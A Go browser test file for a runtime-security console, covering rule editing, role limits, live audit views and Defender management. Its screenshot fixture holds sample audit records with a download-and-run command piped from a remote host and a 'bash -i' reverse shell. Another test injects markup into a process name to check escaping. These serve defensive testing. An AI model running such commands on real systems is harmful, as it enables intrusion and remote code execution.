//go:build platforms

package web

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"appdefender/audit"
	"appdefender/console"
	chrome "appdefender/internal/browser"
	"appdefender/policy"
	"appdefender/wire"
)

// screen is a page of a bench in a real browser.
type screen struct {
	*bench
	*chrome.Tab
}

func newTab(t *testing.T, b *bench) *screen {
	t.Helper()
	return &screen{b, chrome.New(t, chrome.Config{URL: b.url, Shots: os.Getenv("WEB_SHOTS")})}
}

func (p *screen) signIn(name string) {
	p.t.Helper()
	p.Open(console.SignInPath)
	p.Type("#name", name)
	p.Type("#password", testPassword)
	p.Click("#sign-in")
	p.Says("App-Embedded audits")
}

// choose clicks an effect.
func (p *screen) choose(id, effect string) {
	p.t.Helper()
	p.Click(fmt.Sprintf(`#%s-effect label.%s`, id, effect))
}

// TestSampleTask is the document's way: sign in, add the rule, look at the
// audits.
func TestSampleTask(t *testing.T) {
	b := newBench(t, Config{URL: "https://console.example:8443", CA: []byte(testCA)})
	p := newTab(t, b)
	p.Open("/")
	p.Says("Sign in")
	p.Shot("signin")
	p.signIn("admin")
	p.Says("No audits yet")
	p.Shot("audits-empty")

	p.Click(`nav a[href="` + runtimePath + `"]`)
	p.Says("App-Embedded policy")
	p.Click("#add-rule")
	p.Type("#name", "sample")
	p.Type("#containers", "sample-task")
	p.choose("processes", "prevent")
	p.Type("#processes-deny", "mkdir")
	p.Click("#processes-detections summary")
	p.Until(`document.getElementById("processes-detect-fileless").checkVisibility()`)
	p.Pick("processes-detect-fileless", "default")
	p.Shot("rule-processes")
	p.Click("#tab-networking")
	p.Click(".dns .track")
	p.choose("dns", "prevent")
	p.Type("#dns-allow", "gmail com")
	p.Expect("400 (Bad Request)")
	p.Click("#save")
	p.Says("The rule was not saved")
	p.Until(`document.querySelector("#panel-networking #dns-allow-faults").checkVisibility()`)
	p.Shot("rule-faults")
	p.Do(chromedp.Clear(chromedp.ID("dns-allow")))
	p.Type("#dns-allow", "gmail.com")
	p.Shot("rule-networking")
	p.Click("#save")
	p.Says("The rule was added")
	p.Shot("policy")

	r := b.rule("sample")
	if r == nil || !slices.Equal(r.Scope.Containers, []string{"sample-task"}) ||
		*r.Processes.Effect != policy.Prevent || !slices.Equal(r.Processes.Deny, []string{"mkdir"}) ||
		r.Processes.Detect.Fileless == nil || *r.Processes.Detect.Fileless != policy.Inherit ||
		*r.DNS.Effect != policy.Prevent || !slices.Equal(r.DNS.Allow, []string{"gmail.com"}) {
		t.Fatalf("%+v", r)
	}

	// Its audits come to the open page.
	p.Open(eventsPath)
	p.Until(`document.getElementById("live").dataset.state === "live"`)
	p.Mark()
	d := b.enrol(wire.Identity{AppID: "sample-app", Container: "sample-task"})
	d.tell(launched(time.Now(), "/usr/bin/mkdir", "mkdir /tmp/here", "prevent"), lookedUp(time.Now(), "yahoo.com", "prevent"))
	p.Says("/usr/bin/mkdir launched and is explicitly denied by runtime rule. Full command: mkdir /tmp/here")
	p.Says("DNS resolution of domain name yahoo.com triggered by /usr/bin/wget explicitly denied by a runtime rule")
	if !p.Marked() {
		t.Error("the page was loaded again")
	}

	// The effect is changed while it runs.
	p.Open(runtimePath)
	p.ClickXPath(`//a[@class="rule-name" and text()="sample"]`)
	p.Says("Edit “sample”")
	p.choose("processes", "alert")
	p.Click("#save")
	p.Says("The rule was saved")
	if got := *b.rule("sample").Processes.Effect; got != policy.Alert {
		t.Errorf("the effect is %v", got)
	}
}

func TestRulesInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	b.as("editor").post(rulePath, documentsRule...).want(303)
	p := newTab(t, b)
	p.signIn("editor")
	p.Open(runtimePath)
	p.Click(`tr[data-rule="sample"] [value=down]`)
	p.Until(`document.querySelector("tbody tr").dataset.rule === "default"`)
	p.Says("Never reached")
	p.Shot("policy-unreached")
	p.Click(`tr[data-rule="default"] .switch`)
	p.Until(`document.querySelector('tr[data-rule=default] .switch').ariaChecked === "false"`)
	p.SilentOf("Never reached")
	if !b.rule("default").Disabled {
		t.Error("default is enabled")
	}

	p.Click(`tr[data-rule="default"] [aria-label="Delete default"]`)
	p.Says("Delete the rule “default”?")
	p.Shot("policy-delete")
	p.Click("#confirm [value=no]")
	p.Until(`!document.getElementById("confirm").open`)
	if b.rule("default") == nil {
		t.Error("it was deleted in spite of a no")
	}
	p.Click(`tr[data-rule="default"] [aria-label="Delete default"]`)
	p.Click("#confirm-yes")
	p.Says("The rule was deleted")
	if got := b.names(); got != "sample" {
		t.Errorf("the rules are %s", got)
	}
}

func TestAuditorInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	b.as("editor").post(rulePath, documentsRule...).want(303)
	p := newTab(t, b)
	p.signIn("auditor")
	p.Open(runtimePath)
	p.Says("sample")
	p.SilentOf("Add rule")
	p.ClickXPath(`//a[@class="rule-name" and text()="sample"]`)
	p.Says("Read only")
	p.Shot("rule-read-only")
	if p.Is(`document.getElementById("save")`) || !p.Is(`document.getElementById("processes-deny").matches(":disabled")`) {
		t.Error("it can be edited")
	}
	// Even if the page is bent.
	p.Expect("403 (Forbidden)")
	p.Is(`(document.querySelector("fieldset").disabled = false, document.getElementById("rule-form").submit(), true)`)
	p.Says("needs the role editor")
	p.Shot("error")
}

// TestAuditsInTheBrowser: rows come by themselves, where they belong; they
// open; the filters filter, what comes later too.
func TestAuditsInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	d := b.enrol(wire.Identity{AppID: "sample-app", Container: "sample-task"})
	now := time.Now()
	d.tell(lookedUp(now.Add(-time.Hour), "early.test", "alert"))
	p := newTab(t, b)
	p.signIn("auditor")
	p.Until(`document.getElementById("live").dataset.state === "live"`)

	// Markup is text. An audit that was late goes where its time says.
	nasty := launched(now, "/tmp/"+evil, evil, "prevent")
	nasty.Ancestry[0].Path = evil
	d.tell(nasty)
	p.Says("/tmp/" + evil)
	d.tell(lookedUp(now.Add(-time.Minute), "late.test", "prevent"))
	p.Says("late.test")
	p.Until(`[...document.querySelectorAll("tr.event")].map((r) => r.dataset.id.split("-").pop()).join() === "2,3,1"`)
	if p.Is(`document.querySelector("main img, main script")`) {
		t.Error("the markup of a process name is markup")
	}
	p.Click("tr.event:first-child .expand")
	p.Says("Process tree")
	p.Says(`"mkdir" is on the deny list`)
	p.Says("It was not done.")
	if p.Is(`document.querySelector("main img, main script")`) {
		t.Error("the markup of a process name is markup in its details")
	}
	p.Click("tr.event:first-child .expand")
	p.Until(`!document.querySelector(".detail-row").checkVisibility()`)

	// Filters hold for what is there and for what comes.
	p.Pick("f-effect", "alert")
	p.Until(`document.querySelectorAll("tr.event").length === 1 && document.getElementById("live").dataset.state === "live"`)
	d.tell(lookedUp(time.Now(), "refused.test", "prevent"), lookedUp(time.Now(), "told.test", "alert"))
	p.Says("told.test")
	p.SilentOf("refused.test")
	p.Type("#f-text", "told.test\r")
	p.Until(`document.querySelectorAll("tr.event").length === 1 && location.search.includes("text=told.test")`)
	p.Says("told.test")
	p.Click("#clear")
	p.Until(`document.querySelectorAll("tr.event").length === 5 && document.getElementById("live").dataset.state === "live"`)

	// Paused, nothing moves.
	p.Click("#pause")
	d.tell(lookedUp(time.Now(), "meanwhile.test", "alert"))
	p.Says("Resume (1 new)")
	p.SilentOf("meanwhile.test")
	p.Click("#pause")
	p.Says("meanwhile.test")

	// More than a page, and back.
	var many []audit.Record
	for i := range 70 {
		many = append(many, lookedUp(now.Add(-2*time.Hour).Add(-time.Duration(i)*time.Second), fmt.Sprintf("old%d.test", i), "alert"))
	}
	d.tell(many...)
	p.Open(eventsPath)
	p.Until(`document.querySelectorAll("tr.event").length === 50`)
	p.Click("#older")
	p.Until(`document.querySelectorAll("tr.event").length === 76`)
	p.Until(`!document.getElementById("more").checkVisibility()`)

	// A record of its own address, with all its fields.
	p.Open(eventsPath + "?id=" + d.Instance + "-2")
	p.Says("Process tree")
	p.Says("Clear filters")
}

// TestStreamComesBack: a page whose line broke shows what it missed, and one
// whose session ended leads to signing in.
func TestStreamComesBack(t *testing.T) {
	b := newBench(t, Config{})
	d := b.enrol(wire.Identity{AppID: "sample-app"})
	p := newTab(t, b)
	p.Expect("net::ERR_", "401 (Unauthorized)")
	p.signIn("auditor")
	p.Until(`document.getElementById("live").dataset.state === "live"`)
	b.down.Store(true)
	b.breakLines()
	p.Until(`document.getElementById("live").dataset.state === "waiting"`)
	d.tell(lookedUp(time.Now(), "missed.test", "alert"))
	b.down.Store(false)
	p.Says("missed.test")
	p.Until(`document.getElementById("live").dataset.state === "live"`)

	if err := b.Store().DeleteUser(t.Context(), "admin", "auditor"); err != nil {
		t.Fatal(err)
	}
	b.breakLines()
	p.Says("Sign in")
}

func TestDefendersInTheBrowser(t *testing.T) {
	b := newBench(t, Config{URL: "https://console.example:8443", CA: []byte(testCA)})
	p := newTab(t, b)
	p.signIn("admin")
	p.Open(tokensPath)
	p.Type("#token-name", "shop, production")
	p.Click("#new-token .primary")
	p.Says("is ready")
	p.Says("defender run --console https://console.example:8443 --ca console-ca.pem \\\n  --token-file enrolment-token --app-id my-app -- ./entry.sh")
	p.Shot("token")
	secret := p.Text(`document.getElementById("secret").textContent`)
	if _, _, err := b.Store().Enrol(t.Context(), secret, wire.Identity{AppID: "fresh"}); err != nil {
		t.Fatal(err)
	}

	shop := wire.Identity{AppID: "shop", Container: "web", Image: "ghcr.io/example/shop:4.2", Hostname: "ip-10-0-3-17", Version: "0.1.0"}
	d := b.enrol(shop)
	d.heartbeat(wire.Heartbeat{Identity: shop, Level: "notify", Generation: 1, Started: time.Now()})
	less := wire.Identity{AppID: "reports", Container: "worker", Image: "reports:7", Version: "0.1.0"}
	b.enrol(less).heartbeat(wire.Heartbeat{Identity: less, Level: "notify", Generation: 0, Queue: 214, Dropped: 1903, FailOpen: true,
		Lost: []string{"processes of other users are not looked at: no SYS_PTRACE"}, PolicyError: `rule "x": onUnknown: unknown key`})
	p.Open(defendersPath)
	p.Says("no SYS_PTRACE")
	p.Says("newest is 1")
	p.Shot("defenders")
	p.Scheme("dark")
	p.Shot("defenders-dark")
	p.Scheme("light")

	// It follows by itself.
	d.heartbeat(wire.Heartbeat{Identity: shop, Level: "notify", Generation: 1, Queue: 4711})
	p.Says("4711")

	p.Click(`tr[data-instance="` + d.Instance + `"] button`)
	p.Says("Revoke shop?")
	p.Click("#confirm-yes")
	p.Says("The Defender was revoked.")
	p.Until(`!document.querySelector('tr[data-instance="` + d.Instance + `"]')`)

	p.Open(tokensPath)
	p.Click(`[aria-label="Delete shop, production"]`)
	p.Click("#confirm-yes")
	p.Says("The token was deleted.")
}

// TestPictures shows all pages as people will see them.
func TestPictures(t *testing.T) {
	if os.Getenv("WEB_SHOTS") == "" {
		t.Skip("no WEB_SHOTS to put pictures in")
	}
	b := newBench(t, Config{URL: "https://console.example:8443", Version: "0.1.0"})
	w := b.as("admin")
	w.post(rulePath, documentsRule...).want(303)
	w.post(rulePath, "old", "", "name", "shop, production", "enabled", "true", "images", "ghcr.io/example/shop:*\n-ghcr.io/example/shop:debug", "appids", "shop*",
		"processes", "block", "processes-allow", "node\n/usr/bin/tini", "network", "prevent", "ip-deny", "169.254.169.254", "port-deny", "25\n6660-6669",
		"dns-on", "true", "dns", "alert", "dns-allow", ".example.com\n.amazonaws.com").want(303)
	w.post(rulePath, "old", "", "name", "experiments", "containers", "lab-*", "processes", "disable", "network", "alert", "ip-deny", "10.0.0.0/8", "dns", "alert").want(303)
	d := b.enrol(wire.Identity{AppID: "sample-app", Container: "sample-task"})
	now := time.Now()
	var all []audit.Record
	for i, r := range []audit.Record{
		launched(now, "/usr/bin/mkdir", "mkdir /tmp/app", "prevent"),
		lookedUp(now, "yahoo.com", "prevent"),
		lookedUp(now, "google.com", "prevent"),
		launched(now, "/usr/bin/mkdir", "mkdir -p /var/lib/app/cache/v2", "alert"),
		{Type: "defender", Msg: "processes of other users are not looked at: no SYS_PTRACE", AppID: "reports", ContainerName: "worker"},
		{Type: "network", Effect: "prevent", RuleName: "shop, production", AttackType: "explicitlyDeniedIP", AppID: "shop", ContainerName: "web", Count: 12, Level: "refused", Refused: true,
			Msg: "Outbound connection /usr/bin/node to IP 169.254.169.254 is explicitly denied by a runtime rule", ProcessPath: "/usr/bin/node", IP: "169.254.169.254", Port: 80},
		{Type: "processes", Effect: "block", RuleName: "shop, production", AttackType: "explicitlyDeniedProcess", AppID: "shop", ContainerName: "web", Level: "refused", Refused: true,
			Msg: "/usr/bin/dash launched and is explicitly denied by runtime rule. Full command: sh -c 'curl -s http://198.51.100.7/x.sh | sh -s -- --id 4b1f7c2e9a --quiet --install-dir /dev/shm/.cache && rm -f /tmp/x'"},
		{Type: "processes", Effect: "alert", RuleName: "default", AttackType: "reverseShell", Category: "reverseShell", Incident: true, AppID: "reports", ContainerName: "worker", Level: "verified",
			Msg: "/usr/bin/bash launched and is identified as a reverse shell. Full command: bash -i", ProcessPath: "/usr/bin/bash", Command: "bash -i"},
		{Type: "network", Effect: "prevent", DryRun: true, RuleName: "sample", AppID: "staging", Msg: "DNS resolution of domain name tracker.test triggered by /usr/bin/python3.11 explicitly denied by a runtime rule"},
	} {
		r.Time = now.Add(-time.Duration(i*i) * 41 * time.Second)
		all = append(all, r)
	}
	d.tell(all...)
	p := newTab(t, b)
	p.signIn("admin")
	for _, scheme := range []string{"light", "dark"} {
		suffix := map[string]string{"dark": "-dark"}[scheme]
		p.Scheme(scheme)
		p.Open(eventsPath)
		p.Until(`document.getElementById("live").dataset.state === "live"`)
		p.Shot("audits" + suffix)
		p.Click(`[data-id="` + d.Instance + `-1"] .expand`)
		p.Says("Process tree")
		p.Do(chromedp.Sleep(300 * time.Millisecond))
		p.Shot("audit-open" + suffix)
		p.Open(eventsPath + "?range=custom&text=mkdir&effect=prevent&process=/usr/bin/mkdir")
		p.Do(chromedp.Sleep(300 * time.Millisecond))
		p.Shot("audits-filtered" + suffix)
		p.Open(runtimePath)
		p.Shot("rules" + suffix)
		p.Open(rulePath + "?name=shop,%20production")
		p.Shot("rule" + suffix)
		p.Click("#tab-networking")
		p.Shot("rule-net" + suffix)
		p.Click("#tab-files")
		p.Shot("rule-files" + suffix)
		p.Open(textPath)
		p.Shot("policy-text" + suffix)
		p.Open(learnPath + "?appID=shop&effect=prevent")
		p.Shot("learn" + suffix)
		p.Open(incidentsPath)
		p.Shot("incidents" + suffix)
		p.Open(forensicsPath + "?instance=" + d.Instance)
		p.Shot("forensics" + suffix)
		p.Open(tokensPath)
		p.Shot("tokens" + suffix)
		p.Open(usersPath)
		p.Shot("users" + suffix)
		p.Open(changesPath)
		p.Shot("changes" + suffix)
		p.Open(passwordPath)
		p.Shot("password" + suffix)
	}
	p.Scheme("light")
	p.Size(420, 800)
	for name, path := range map[string]string{
		"audits": eventsPath, "incidents": incidentsPath, "rules": runtimePath, "rule": rulePath + "?name=sample", "policy-text": textPath,
		"learn": learnPath, "defenders": defendersPath, "tokens": tokensPath, "users": usersPath, "changes": changesPath,
	} {
		p.Open(path)
		p.Shot(name + "-narrow")
	}
}

// breakLines ends all connections, also those that stream.
func (b *bench) breakLines() { b.http.CloseClientConnections() }

// TestEmbedInTheBrowser: a definition is pasted, its fault shown and mended,
// the difference looked at and the file downloaded.
func TestEmbedInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	p := newTab(t, b)
	p.signIn("editor")
	p.Click(`nav a[href="` + embedPath + `"]`)
	p.Says("Make a protected definition")
	p.Shot("embed-empty")
	p.Pick("format", "kubernetes")
	p.Says("NAME or NAME/KEY of a Secret")
	p.SilentOf("a file in /run/secrets")
	p.Type("#text", "kind: Pod\nmetadata: {name: shop}\nspec:\n  containers:\n  - name: web\n    image: shop:1\n")
	p.Type("#app-id", "shop:1")
	p.Type("#image", "registry.example.com/defender:1")
	p.Type("#console", "https://console.example:8443")
	p.Type("#token-secret", "defender")
	p.Click("#on-failure-effect label.open")
	p.Expect("400 (Bad Request)")
	p.Click("#show")
	p.Says(`5:5: spec.containers[0]: "web" has neither command nor args`)
	p.Until(`document.activeElement.id === "fault-summary" && document.getElementById("text").ariaInvalid === "true"`)
	p.Shot("embed-faults")
	p.Type("#entrypoints", `web=["/entry.sh"]`)
	p.Type("#commands", `web=[]`)
	p.Click("#show")
	p.Says("App ID shop:1")
	p.Until(`document.querySelectorAll("#diff .added").length > 20 && getComputedStyle(document.querySelector("#diff .added")).backgroundColor !== "rgba(0, 0, 0, 0)"`)
	p.Until(`[...document.querySelectorAll("#diff .added")].some((line) => line.textContent.includes("DEFENDER_ON_FAILURE"))`)
	p.Shot("embed-result")
	p.Scheme("dark")
	p.Shot("embed-result-dark")
	p.Scheme("light")
	p.Size(420, 800)
	p.Shot("embed-narrow")

	// What a click on Download brings is what the server made of the form.
	got := p.Text(`(() => { const f = document.getElementById("embed-form"); const d = new FormData(f); d.set("do", "download");
		const x = new XMLHttpRequest(); x.open("POST", f.action, false); x.send(d);
		return x.getResponseHeader("Content-Disposition") + "\n" + x.responseText; })()`)
	if !strings.HasPrefix(got, "attachment; filename=manifests.yaml\nkind: Pod\n") || !strings.Contains(got, "value: shop:1") {
		t.Errorf("downloaded:\n%s", got)
	}
	// Every field has a name for those who do not see it.
	if nameless := p.Text(`[...document.querySelectorAll("#embed-form :is(input:not([type=hidden]), select, textarea)")].filter((e) => !e.labels?.length).map((e) => e.name).join(" ")`); nameless != "" {
		t.Errorf("without a label: %s", nameless)
	}
}
